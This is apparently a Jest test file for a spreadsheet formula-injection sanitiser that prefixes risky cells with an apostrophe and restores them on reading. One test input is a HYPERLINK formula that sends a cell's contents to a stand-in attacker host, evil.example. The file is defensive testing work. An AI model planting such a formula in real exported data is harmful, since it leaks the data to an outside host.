import { isPlainNumber, neutraliseCell, restoreCell } from './cells';

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];

describe('neutraliseCell', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'],
    ['+44 1892 000000', "'+44 1892 000000"],
    ['- fewer patrols in Q3', "'- fewer patrols in Q3"],
    ['-', "'-"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\tindented', "'\tindented"],
    ['\r=1', "'\r=1"],
    ["'=1+1", "''=1+1"],
    ["''-x", "'''-x"],
  ])('makes %j inert text: %j', (given, written) => {
    expect(neutraliseCell(given)).toBe(written);
  });

  it.each(['-3.5', '+12', '-0', '-.5', '-1e3', '1E-3', '42', '3.'])('leaves the number %j a number', (n) => {
    expect(neutraliseCell(n)).toBe(n);
  });

  it.each(['', 'On track', ' =1+1', "'tis so", "'", '1+1', '2025-26-Q2', 'a=b', 'CS 001', '£1.2m grant', '-3.5.1', '--5', '-Infinity', '-1e999'])(
    'leaves %j alone unless it starts like a formula',
    (text) => {
      const startsLikeFormula = TRIGGERS.includes(text.charAt(0)) || /^'+[=+\-@\t\r]/.test(text);
      expect(neutraliseCell(text)).toBe(startsLikeFormula ? `'${text}` : text);
    },
  );

  it('prefixes the numbers that overflow, since a spreadsheet would not read them as finite numbers', () => {
    expect(neutraliseCell('-1e999')).toBe("'-1e999");
    expect(isPlainNumber('-1e999')).toBe(false);
  });
});

describe('restoreCell', () => {
  it.each([
    ["'=1+1", '=1+1'],
    ["''=1+1", "'=1+1"],
    ["'-3.5", '-3.5'],
    ["'\tx", '\tx'],
    ["'tis so", "'tis so"],
    ["'", "'"],
    ['-3.5', '-3.5'],
    ['=1+1', '=1+1'],
    ['', ''],
  ])('reads %j as %j', (given, value) => {
    expect(restoreCell(given)).toBe(value);
  });
});

describe('round trip', () => {
  // Every string of up to four characters over an alphabet of the characters that matter.
  const alphabet = ['=', '+', '-', '@', '\t', '\r', "'", 'a', '1', '.', 'e', ' '];
  const all: string[] = [''];
  for (let length = 1, layer = ['']; length <= 4; length++) {
    layer = layer.flatMap((prefix) => alphabet.map((c) => prefix + c));
    all.push(...layer);
  }

  it(`restores each of ${all.length} strings exactly, and never writes one a spreadsheet reads as a formula`, () => {
    const broken = all.filter((s) => restoreCell(neutraliseCell(s)) !== s);
    expect(broken).toEqual([]);
    const live = all.map(neutraliseCell).filter((w) => TRIGGERS.includes(w.charAt(0)) && !isPlainNumber(w));
    expect(live).toEqual([]);
  });
});

describe('isPlainNumber', () => {
  it.each(['0', '-3.5', '+2', '.5', '5.', '1e5', '-2.5E-3'])('%j is a number', (n) => expect(isPlainNumber(n)).toBe(true));
  it.each(['', '-', '+', '.', 'e5', '1,000', ' 1', '1 ', '0x10', 'NaN', 'Infinity', '1e999', '=1'])('%j is not', (n) => expect(isPlainNumber(n)).toBe(false));
});
